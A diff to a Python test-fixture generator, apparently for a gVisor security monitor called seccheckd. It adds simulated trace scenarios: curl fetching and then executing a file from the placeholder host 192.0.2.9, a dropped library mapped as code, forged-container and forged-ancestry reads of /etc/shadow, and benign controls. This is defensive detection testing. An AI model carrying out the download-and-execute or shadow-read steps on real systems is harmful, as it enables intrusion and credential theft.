@@ -12,6 +12,9 @@ these bytes, so a field seccheckd's schema got wrong shows as a wrong value.
   gvisor_packets.py trace-one FILE SCENARIO... all in one trace file (one connection: their
                                              processes' ids overlap, for storage tests only)
   gvisor_packets.py send SOCKET SCENARIO...  a sandbox connection each: handshake, packets
+  gvisor_packets.py forged-chain FILE EVENTS [DEPTH]
+                                             a trace whose last event's process has a forged
+                                             ancestry DEPTH deep (64), EVENTS events in between
   gvisor_packets.py list                     the scenarios
 
 A scenario is a short story one sandbox tells: an attack from the default
@@ -408,6 +411,51 @@ def story_ptrace_benign(s):
     s.syscall("ptrace", 2, sysno=101, request=16, pid=1, enter=True)
 
 
+def story_download_exec(s):
+    """curl writes /root/x, then another child of the shell runs it: the sequence "Downloaded
+    file executed". Its first four packets (to the write) and the last two are a chain begun and
+    finished: integration.sequences sends them either side of a restart."""
+    shell(s)
+    s.execve(2, "/usr/bin/curl", argv=["curl", "-o", "/root/x", "http://192.0.2.9/x"])
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/x", flags=0o1101)  # O_WRONLY|O_CREAT|O_TRUNC
+    s.clone(1, 3)
+    s.execve(3, "/root/x")
+
+
+def story_download_exec_benign(s):
+    """The same download run through an interpreter (sh /root/x: the program is sh), and a file
+    run before curl writes it."""
+    shell(s)
+    s.clone(1, 4)
+    s.execve(4, "/root/y")
+    s.execve(2, "/usr/bin/curl", argv=["curl", "-o", "/root/x", "http://192.0.2.9/x"])
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/x", flags=0o1101)
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/y", flags=0o1101)
+    s.clone(1, 3)
+    s.execve(3, "/bin/sh", argv=["sh", "/root/x"])
+
+
+def story_drop_mmap(s):
+    """A library written in /tmp by a program that is no build tool, then mapped executable:
+    the sequence "Dropped file loaded as code" (sentry/mmap: release-20260714.0 on)."""
+    shell(s)
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/tmp/libx.so", flags=0o1101)  # O_WRONLY|O_CREAT|O_TRUNC
+    s.execve(2, "/usr/bin/python3")
+    s.mmap_info(2, "/tmp/libx.so", mapped_ino=90, mapped_mode=S_IFREG | 0o755)
+
+
+def story_drop_mmap_benign(s):
+    """The same library written by the linker (building is the work), then loaded; and a
+    library loaded that nothing wrote."""
+    shell(s)
+    s.execve(2, "/usr/bin/ld")
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/tmp/libx.so", flags=0o1101)
+    s.clone(1, 3)
+    s.execve(3, "/usr/bin/python3")
+    s.mmap_info(3, "/tmp/libx.so", mapped_ino=90, mapped_mode=S_IFREG | 0o755)
+    s.mmap_info(3, "/tmp/liby.so", mapped_ino=91, mapped_mode=S_IFREG | 0o755)
+
+
 def story_fields(s):
     """Every new message and field once, for detail, the views and the lines."""
     s.start(1, ["/bin/bash"])
@@ -423,6 +471,48 @@ def story_fields(s):
     s.syscall("listen", 2, sysno=50, fd=3, fd_path="socket:[8]", backlog=128,
               address=bytes([2, 0, 0x11, 0x5c, 0, 0, 0, 0]) + bytes(8), socket_family=2, socket_type=1)
     s.syscall("ptrace", 2, sysno=101, request=16, pid=1)
+
+
+def reads_shadow(s, own, named):
+    """A sandbox whose own (root) container is `own`, as its first event says, reading
+    /etc/shadow in the name of container `named` (a compromised sandbox forges the id)."""
+    s.container = own
+    s.start(1, ["/bin/sh"])
+    s.container = named
+    s.syscall("open", 1, result=3, sysno=257, fd=-100, pathname="/etc/shadow", flags=0)
+
+
+def story_shadow_victim(s):
+    reads_shadow(s, "victim-ctr", "victim-ctr")
+
+
+def story_shadow_forger(s):
+    reads_shadow(s, "tenant-ctr", "victim-ctr")
+
+
+def forged_chain(events, depth=64):
+    """A compromised sandbox's sentry/clone events, each naming the next pid as
+    the parent of the one before (the oldest ancestor's clone first), then
+    `events` events of ordinary work (clones of other processes, execs, opens),
+    last the chain's bottom process opening /etc/shadow (an alert to show).
+    Each generation of `seccheckd alerts show` looks for its process's clone
+    and exec before the one it came from: every clone and exec row in between
+    is in the way unless an index fits (issue 32 item 9)."""
+    s = Sandbox("forged-chain")
+    s.start(1, ["/bin/sh"])
+    bottom = 100000
+    for gen in range(depth, 0, -1):
+        s.clone(bottom + gen, bottom + gen - 1)
+    for i in range(events):
+        worker = 2 + i % 50
+        if i % 4 in (0, 1):
+            s.clone(worker, 200000 + i)
+        elif i % 4 == 2:
+            s.execve(worker, "/usr/bin/true", ["true", str(i)])
+        else:
+            s.syscall("open", worker, result=3, sysno=257, fd=-100, pathname="/tmp/f%d" % (i % 1000), flags=0)
+    s.syscall("open", bottom, result=3, sysno=257, fd=-100, pathname="/etc/shadow", flags=0)
+    return s.packets
 
 
 STORIES = {name[len("story_"):]: fn for name, fn in globals().items() if name.startswith("story_")}
@@ -465,6 +555,9 @@ def main(argv):
         return check_schema(argv[2])
     if len(argv) == 2 and argv[1] == "list":
         print("\n".join(sorted(STORIES)))
+        return 0
+    if len(argv) in (4, 5) and argv[1] == "forged-chain":
+        write_trace(argv[2], forged_chain(int(argv[3]), int(argv[4]) if len(argv) == 5 else 64))
         return 0
     if len(argv) >= 4 and argv[1] == "trace-one":
         write_trace(argv[2], [p for name in argv[3:] for p in story_packets(name)])
